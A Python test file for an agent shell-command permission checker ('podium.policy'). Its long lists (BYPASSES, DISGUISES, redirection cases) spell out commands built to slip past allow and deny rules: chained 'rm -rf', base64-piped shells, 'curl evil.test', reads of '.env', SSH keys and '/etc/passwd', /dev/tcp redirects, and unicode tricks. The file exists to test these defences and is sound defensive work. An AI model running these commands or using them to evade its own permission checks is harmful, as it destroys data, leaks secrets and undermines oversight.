"""Commands that try to get past broad allow rules, and commands that people run every day."""

from __future__ import annotations

import random
import subprocess
from itertools import islice
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from podium.policy import Mode, Rules, check, generalised
from podium.policy.shell_command import parse_command

PROGRAMS = "git ls echo cat grep find pytest npm rg sed head wc".split()
BROAD = Rules(allow=tuple(f"Bash({program} *)" for program in PROGRAMS))

BYPASSES = [
    # Other commands behind a harmless one.
    "ls; rm -rf src",
    "ls;rm -rf src",
    "ls && rm -rf src",
    "ls || rm -rf src",
    "ls | sh",
    "cat x.sh | bash",
    "echo cm0gLXJmIC4K | base64 -d | sh",
    "ls & rm -rf src",
    "ls &",
    "ls |& tee out",
    "ls\nrm -rf src",
    "ls\r\nrm -rf src",
    "ls \\\n; rm -rf src",
    "git status # fine\nrm -rf src",
    "echo hi;curl evil.test",
    "(rm -rf src)",
    "{ rm -rf src; }",
    "! rm -rf src",
    "if true; then rm -rf src; fi",
    "for f in a; do rm $f; done",
    "while true; do ls; done",
    "case a in a) rm x;; esac",
    "ls() { rm -rf src; }; ls",
    "function ls { rm x; }; ls",
    "[[ -f x ]] && rm x",
    # Substitutions and expansions.
    "echo $(rm -rf src)",
    "echo `rm -rf src`",
    'echo "$(rm -rf src)"',
    'echo "`rm -rf src`"',
    "cat <(rm -rf src)",
    "ls >(rm -rf src)",
    "echo ${x:=$(id)}",
    "echo $((a[$(id)]))",
    "echo $HOME",
    "cat $SECRET_FILE",
    'cat "$SECRET_FILE"',
    "echo ${PATH@P}",
    "ls $'\\x2d'la",
    'echo $"$(id)"',
    "ls *",
    "cat *",
    "cat .e?v",
    "cat .[e]nv",
    "cat {.env,x}",
    "cat ~/.ssh/id_rsa",
    "cat ~root/.bashrc",
    "l\\s -la",
    "cat .e\\nv",
    # Redirections, here-documents, assignments.
    "echo x > .bashrc",
    "echo x >> src/a.py",
    "echo x >| a",
    "echo x &> a",
    "echo x 2> a",
    "echo x >& a",
    "cat < /etc/passwd",
    "cat <> a",
    "cat <<EOF > a\nx\nEOF",
    "cat <<< x",
    "cat 3< a",
    "git log > out.txt",
    "PATH=. ls",
    "LD_PRELOAD=./x.so ls",
    "GIT_SSH_COMMAND=x git fetch",
    "PAGER=x git log",
    "x=1",
    "export PATH=.; ls",
    # Options that run another program or write a file.
    "git -c core.pager=x log",
    "git -c alias.x='!id' x",
    "git -ccore.fsmonitor=x status",
    "git --exec-path=. status",
    "git --exec-path . status",
    "git --git-dir=evil status",
    "git --git-dir evil status",
    "git --work-tree=. status",
    "git -C sub status",
    "git -p log",
    "git --paginate log",
    "git --config-env=core.pager=X log",
    "git diff --output=src/a.py",
    "git diff --outp=src/a.py",
    "git log --output x",
    "git show --ext-diff",
    "git diff --no-index a b",
    "git grep -O foo",
    "git grep -nOvi foo",
    "git grep --open-files-in-pager=sh foo",
    "git push",
    "git push --force",
    "git pull",
    "git fetch --upload-pack=x origin",
    "git clone ext::sh",
    "git ls-remote ext::sh",
    "git config core.pager x",
    "git config --global alias.ls x",
    "git rebase -x id HEAD~1",
    "git bisect run id",
    "git submodule foreach id",
    "git filter-branch --tree-filter id",
    "git difftool -x id",
    "git archive -o x.tar HEAD",
    "git apply x.patch",
    "git checkout .",
    "git reset --hard",
    "git clean -fdx",
    "git stash",
    "git branch -D main",
    "git branch evil",
    "git tag v1",
    "git remote add x y",
    "git worktree add x",
    "git commit -n -m x",
    "git commit --no-verify -m x",
    "git commit --no-v -m x",
    "git commit",
    "git hook run pre-commit",
    "git unknown-alias",
    "git log --format=%G?",
    "git help log",
    "cd sub && git status",
    "find . -delete",
    "find . -exec rm x +",
    "find . -execdir id ';'",
    "find . -ok rm x ';'",
    "find . -fprint out",
    "find . -fprintf out x",
    "find . -fls out",
    "find . -files0-from x",
    "find / -name x",
    "rg --pre id foo",
    "rg --pre=./x foo",
    "rg --hostname-bin=./x foo",
    "rg -z foo",
    "rg --search-zip foo",
    "rg -uu KEY",
    "rg --hidden KEY",
    "sed -i s/a/b/ f",
    "sed -ni p f",
    "sed -i.bak s/a/b/ f",
    "sed --in-place s/a/b/ f",
    "sed --in-pl s/a/b/ f",
    "sed s/a/b/e f",
    "sed s/a/b/ge f",
    "sed 's/a/b/w out' f",
    "sed '1e id' f",
    "sed e f",
    "sed 'w out' f",
    "sed 'r /etc/passwd' f",
    "sed -n -e p -e 'e id' f",
    "sed --expression='1e id' f",
    "sed -f script f",
    "sed --file=script f",
    "sed 'p;e id' f",
    "sed 's|a|b|;w out' f",
    "pytest -p evil",
    "pytest -pevil",
    "pytest -qp evil",
    "pytest -c evil.ini",
    "pytest -o addopts=x",
    "pytest --rootdir=evil",
    "pytest --confcutdir=evil",
    "pytest --pyargs evil",
    "pytest --basetemp=src",
    "pytest --junitxml=src/a.py",
    "pytest --log-file=src/a.py",
    "pytest --pdbcls=evil:X",
    "pytest --override-ini=x=y",
    "pytest -W error::evil.Warning",
    "pytest @evil",
    "pytest ../evil",
    "pytest /tmp/evil",
    "npm install evil",
    "npm i",
    "npm exec evil",
    "npm x evil",
    "npm init evil",
    "npm config set script-shell x",
    "npm run test --script-shell=./x",
    "npm run test --script-sh ./x",
    "npm --prefix evil run test",
    "npm run test --node-options=--require=./x",
    "npm run test -- --require ./x",
    "npm run test -- --config=evil.json",
    "npm publish",
    "npx evil",
    # Wrappers and interpreters that no rule mentions.
    "env ls",
    "sudo ls",
    "timeout 5 rm x",
    "time rm x",
    "nice rm x",
    "xargs rm",
    "echo x | xargs rm",
    "find . -name x | xargs rm",
    "command rm x",
    "exec rm x",
    "eval rm x",
    "bash -c 'rm x'",
    "python -c 'import os'",
    "./git status",
    "/tmp/git status",
    "sub/ls",
    "coproc ls",
    # Outside the checkout, secrets, protected paths.
    "cat /etc/passwd",
    "cat //etc/passwd",
    "cat ../other/x",
    "cat src/../../x",
    "ls /",
    "ls ..",
    "cat .env",
    "cat ./.env",
    "cat .e''nv",
    'cat ".env"',
    "cat config/.env.production",
    "cat .ENV",
    "cat id_rsa",
    "cat deploy/server.pem",
    "cat .git/config",
    "cat .GIT/config",
    "grep -f /etc/passwd x",
    "grep -f/etc/passwd x",
    "grep --file=/etc/passwd x",
    "grep -e root /etc/passwd",
    "grep -eroot /etc/passwd",
    "grep --regexp=root /etc/passwd",
    "grep -r KEY --include=.env .",
    "grep -r KEY --include='.e*' .",
    "rg KEY -g .env",
    "rg --files /etc",
    "git show HEAD:.env",
    "git blame --contents=/etc/passwd x",
    "git commit -F /etc/passwd",
    # Commands that are not what they look like.
    "git\u200b status",
    "ls \u202e-la",
    "ls \x1b[2K",
    "ls\x00rm",
    "ｌｓ",
    "ls '",
    'ls "',
    "ls (",
    "ls |",
    "&& ls",
    "ls ;; ls",
    "",
    " ",
]

HARMLESS = [
    "git status",
    "git status --porcelain",
    "git log -5",
    "git log --oneline -- src",
    "git log --stat --since=yesterday",
    "git diff",
    "git diff HEAD~1",
    "git diff main...feature -- src/a.py",
    "git diff --cached --name-only",
    "git show HEAD",
    "git show HEAD^:src/a.py",
    "git branch",
    "git branch -a",
    "git tag -l",
    "git stash list",
    "git remote -v",
    "git rev-parse HEAD",
    "git --no-pager log -1",
    "git add src/a.py",
    "git commit -m 'Say it better'",
    'git commit -m "Fix it!"',
    "ls",
    "ls -la src",
    "ls -la src tests",
    "echo 'hello world'",
    "echo done",
    "cat src/a.py",
    "cat README.md",
    "grep -rn foo src | head",
    "grep -rn 'foo bar' src",
    "grep -E '^def ' src/a.py",
    "grep -n '/api/v1' src/a.py",
    "find . -name '*.py'",
    "find src -type f -name test_a.py",
    "find . -name '*.py' | wc -l",
    "rg foo src",
    "rg -n --type py 'class A'",
    "sed -n '1,40p' src/a.py",
    "sed -n '/def main/p' src/a.py",
    "sed 's/a/b/g' src/a.py",
    "pytest",
    "pytest -q tests/test_x.py",
    "pytest -x -k 'a and not b' --tb=short",
    "pytest -p no:cacheprovider -W error",
    "pytest tests/test_x.py::test_y",
    "npm test",
    "npm run test -- --watch=false",
    "npm run lint",
    "git status && ls",
    "ls; git status",
    "git log --oneline | head -20",
]


@pytest.mark.parametrize("command", BYPASSES)
def test_no_command_gets_past_broad_rules(command: str) -> None:
    assert check(command, BROAD).decision == "ask"
    assert check(command, BROAD, "dont-ask").decision == "deny"


@pytest.mark.parametrize("command", BYPASSES)
def test_no_rule_is_saved_that_would_let_a_bypass_through_with_other_words(command: str) -> None:
    rule = generalised(command)

    assert rule is None or not rule.endswith("*)")


def test_the_corpora_are_large_enough() -> None:
    assert len(set(BYPASSES)) >= 120
    assert len(set(HARMLESS)) >= 35


def test_everyday_commands_are_not_asked_about() -> None:
    asked = [command for command in HARMLESS if check(command, BROAD).decision != "allow"]

    assert len(asked) <= 3, asked


DISGUISES = [
    "rm -rf x",
    "/bin/rm -rf x",
    "RM -rf x",
    "r\\m -rf x",
    "'rm' -rf x",
    'r"m" -rf x',
    "$'\\x72m' -rf x",
    "rm${IFS}-rf${IFS}x",
    "{rm,-rf,x}",
    "ls; rm x",
    "ls && rm x",
    "true || rm x",
    "echo $(rm x)",
    "echo `rm x`",
    'echo "$(rm x)"',
    "cat <(rm x)",
    "(rm x)",
    "if true; then rm x; fi",
    "f() { rm x; }; f",
    "A=1 rm x",
    "rm x &",
    "rm x > /dev/null 2>&1",
    "! rm x",
    "env rm x",
    "env -i A=1 rm x",
    "env -S 'rm x'",
    "sudo rm x",
    "sudo -u bob -- rm x",
    "doas rm x",
    "timeout 5 rm x",
    "timeout -s KILL 5 rm x",
    "nice -n 10 rm x",
    "nohup rm x",
    "time rm x",
    "stdbuf -oL rm x",
    "setsid rm x",
    "command rm x",
    "builtin command rm x",
    "exec rm x",
    "eval rm x",
    "eval 'rm x'",
    "bash -c 'rm x'",
    "sh -c 'cd a && rm x'",
    "bash -lc \"sh -c 'rm x'\"",
    "sudo timeout 5 env A=1 nice rm x",
    "echo x | xargs rm",
    "xargs -n 1 -I{} rm {}",
    "find . -exec rm {} +",
    "find . -type f -execdir rm {} ';'",
    "busybox rm x",
    "watch 'rm x'",
    "flock lock rm x",
    "script -c 'rm x' out",
    "trap 'rm x' EXIT",
    "echo 'rm x' | sh",
    "bash <<EOF\nrm x\nEOF",
    "bash <<< 'rm x'",
    "git -c alias.y='!rm x' y",
    "ls '; rm x",
]


@pytest.mark.parametrize("mode", ["default", "accept-edits", "dont-ask", "bypass"])
@pytest.mark.parametrize("command", DISGUISES)
def test_a_denied_program_is_seen_in_every_disguise(command: str, mode: Mode) -> None:
    rules = Rules(allow=("Bash",), deny=("Bash(rm *)",))

    verdict = check(command, rules, mode)

    assert (verdict.decision, verdict.rule) == ("deny", "Bash(rm *)")


@pytest.mark.parametrize(
    "command", ["git -C sub push origin", "git -c a=b push", "git --git-dir=x push", "git --no-pager push"]
)
def test_a_denied_subcommand_is_seen_behind_options(command: str) -> None:
    assert check(command, {"deny": ["Bash(git push *)"]}).decision == "deny"


def test_a_program_with_a_similar_name_is_another_program() -> None:
    rules = {"allow": ["Bash(npm run test *)"], "deny": ["Bash(rm *)"]}

    assert check("npm run test", rules).decision == "allow"
    assert check("npm run test unit", rules).decision == "allow"
    assert check("npm run tests", rules).decision == "ask"
    assert check("rmdir x", rules).decision == "ask"


def test_a_rule_without_a_space_before_its_star_is_a_prefix() -> None:
    assert check("npm run tests", {"allow": ["Bash(npm run test*)"]}).decision == "allow"


def test_a_star_in_the_middle_matches_words() -> None:
    rules = {"ask": ["Bash(git * main)"]}

    assert check("git push origin main", rules).rule == "Bash(git * main)"
    assert check("git main", rules).rule is None


def test_the_old_form_with_a_colon_means_the_same() -> None:
    assert check("ls -la", {"allow": ["Bash(ls:*)"]}).decision == "allow"
    assert check("lsof", {"allow": ["Bash(ls:*)"]}).decision == "ask"


def test_a_rule_that_spells_a_risky_word_out_allows_it() -> None:
    assert check("sed -i s/a/b/ f", {"allow": ["Bash(sed -i *)"]}).decision == "allow"
    assert check("sed -i s/a/b/e f", {"allow": ["Bash(sed -i *)"]}).decision == "ask"
    assert check("git push origin main", {"allow": ["Bash(git push *)"]}).decision == "allow"
    assert check("git push --force origin main", {"allow": ["Bash(git push *)"]}).decision == "ask"
    assert check("git push origin +main", {"allow": ["Bash(git push *)"]}).decision == "ask"
    assert check("python -m pytest -q", {"allow": ["Bash(python -m pytest *)"]}).decision == "allow"
    assert check("python -m pytest -p x", {"allow": ["Bash(python -m pytest *)"]}).decision == "ask"
    assert check("timeout 60 pytest -q", {"allow": ["Bash(timeout 60 pytest *)"]}).decision == "allow"
    assert check("timeout 60 rm x", {"allow": ["Bash(timeout 60 *)"]}).decision == "ask"


def test_an_exact_rule_allows_exactly_its_command() -> None:
    rules = {"allow": ["Bash(bash scripts/build.sh --fast)"]}

    assert check("bash scripts/build.sh --fast", rules).decision == "allow"
    assert check("bash 'scripts/build.sh --fast'", rules).decision == "ask"
    assert check("bash scripts/build.sh", rules).decision == "ask"


def test_with_a_rule_for_all_of_bash_unclear_commands_are_still_asked_about() -> None:
    rules = {"allow": ["Bash"]}

    assert check("make", rules).decision == "allow"
    assert check("make && ./run --all", rules).decision == "allow"
    for command in ("echo $(id)", "make > log", "sudo make", "cat .env", "cat /etc/passwd", "git -c a=b log", "ls *"):
        assert check(command, rules).decision == "ask", command


def test_every_part_of_a_compound_needs_a_rule() -> None:
    rules = {"allow": ["Bash(ls *)", "Bash(git status)"]}

    verdict = check("git status && ls && make", rules)

    assert verdict.decision == "ask"
    assert "make" in verdict.reason


@pytest.mark.parametrize(
    "command",
    [
        " && ".join(["ls"] * 51),
        "echo " + "x" * 10_001,
        "ls " + "(" * 500 + ")" * 500,
        "echo " + "$(" * 300 + "id" + ")" * 300,
        "{ " * 300 + "ls; " + "}; " * 300,
        "bash -c " * 50 + "ls",
        "env " + "A=1 " * 300 + "ls",
        "ls " + "x" * 200_000,
    ],
    ids=["parts", "length", "parentheses", "substitutions", "groups", "shells", "assignments", "huge"],
)
def test_commands_that_are_too_large_to_inspect_are_asked_about(command: str) -> None:
    assert check(command, {"allow": ["Bash"]}).decision == "ask"


def test_fifty_parts_are_still_inspected() -> None:
    assert check(" && ".join(["ls"] * 50), {"allow": ["Bash(ls *)"]}).decision == "allow"


def test_padding_does_not_hide_a_denied_command() -> None:
    rules = Rules(deny=("Bash(rm *)",))

    assert check("ls && " * 60 + "rm x", rules).decision == "deny"
    assert check("echo " + "x" * 20_000 + "; rm x", rules).decision == "deny"
    assert check("env " + "A=1 " * 1_000 + "rm x", rules, "bypass").decision != "allow"
    assert check("ls " + "x" * 200_000 + "; rm x", rules, "bypass").decision != "allow"


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text("ab-=~^!#'\"$`\\;&|*?[]{}()<> \n", max_size=12))
def test_a_plain_command_is_parsed_as_bash_parses_it(tmp_path: Path, text: str) -> None:
    command = parse_command(f"printf '%s\\0' {text}")
    if len(command.parts) != 1:
        return

    done = subprocess.run(["bash", "-c", command.text], cwd=tmp_path, capture_output=True, text=True, check=True)

    words = command.parts[0][2:] or ("",)
    assert tuple(done.stdout.split("\0")[:-1]) == words
    assert done.stderr == ""
    assert list(tmp_path.iterdir()) == []


# Redirections


@pytest.mark.parametrize(
    "command",
    [
        "ls 2>&1",
        "ls 2>/dev/null | head",
        "ls > /dev/null 2>&1 && ls",
        "cd src 2>/dev/null && cat a",
        "grep x a 2> /dev/null || echo none",
    ],
)
def test_a_redirection_that_writes_no_file_needs_no_permission(command: str) -> None:
    assert check(command, {}).decision == "allow"
    assert check(command, {}, "plan").decision == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "ls 2>&12",
        "ls 2>&1x",
        "ls 2>&-",
        "ls >&2x",
        "ls >&x",
        "ls &>x",
        "ls 2>/dev/nullx",
        "ls 2>/dev/null/../x",
        "ls 2>./dev/null",
        "ls >/dev/sda",
        "ls >/dev/tcp/a.test/80",
        "ls >/dev/null >x",
        "ls >/dev/null>x",
        "ls 2>&1>x",
        "ls 2>&1 >x",
        "ls >|x",
        "ls >>x",
        "ls <x",
        "ls <>x",
        "ls '2'>&1",
        "ls 2>&1 &",
        "ls 2>&1&",
        "2>&1 ls",
        "ls | 2>&1",
        "2>/dev/null",
        "ls {x}>/dev/null",
        "ls 2>&1 | sh",
        "rm x 2>/dev/null",
        "cat .env 2>/dev/null",
        "find . -delete 2>/dev/null",
        "echo $(id) 2>/dev/null",
        "x=1 ls 2>/dev/null",
        "git -c a=b log 2>&1",
    ],
)
def test_any_other_redirection_and_any_other_command_with_one_asks(command: str) -> None:
    assert check(command, {}).decision == "ask"


def test_a_rule_covers_a_command_with_a_redirection_that_writes_no_file() -> None:
    assert check("pytest -q 2>&1 | tail -5", {"allow": ["Bash(pytest *)"]}).decision == "allow"
    assert check("pytest -q > out.txt 2>&1", {"allow": ["Bash(pytest *)"]}).decision == "ask"
    assert generalised("pytest -q 2>&1") == "Bash(pytest *)"


# Quotes


def test_the_words_of_a_plain_command_are_those_that_bash_passes(tmp_path: Path) -> None:
    chance = random.Random(3)
    signs = [
        '"',
        '"',
        "'",
        "\\",
        "a",
        "(",
        "n",
        " ",
        "$",
        "`",
        "w.",
        "[",
        "!",
        "~",
        "=",
        "\\\\",
        '\\"',
        "-",
        "2>&1",
        "{",
    ]
    texts = {"show " + "".join(chance.choices(signs, k=chance.randrange(2, 12))) for _ in range(10_000)}
    parsed = {text: parse_command(text).parts for text in sorted(texts)}
    plain = {text: parts[0] for text, parts in parsed.items() if len(parts) == 1}

    script = "\n".join(("show() { printf '%s\\0' $# \"$@\"; }", *plain))
    shown = subprocess.run(["bash"], input=script.encode(), cwd=tmp_path, capture_output=True, check=True).stdout

    rest = iter(shown.decode().split("\0"))
    passed = {text: ("show", *islice(rest, int(next(rest)))) for text in plain}
    assert len(plain) >= 100
    assert passed == plain


@pytest.mark.parametrize("command", [r'rg "fn new\(" src', r'grep -rnE "\w+Error\b" src', r'find . -regex ".*\.py"'])
def test_a_backslash_before_an_ordinary_character_in_double_quotes_needs_no_permission(command: str) -> None:
    assert check(command, {}).decision == "allow"


@pytest.mark.parametrize(
    "command", [r'rg "a\"b" src', r'rg "a\$b" src', r'rg "a\`id\`" src', r'rg "a\\" src', r'rg "a\" ; rm "x"']
)
def test_a_backslash_that_the_shell_removes_asks(command: str) -> None:
    assert check(command, {}).decision == "ask"
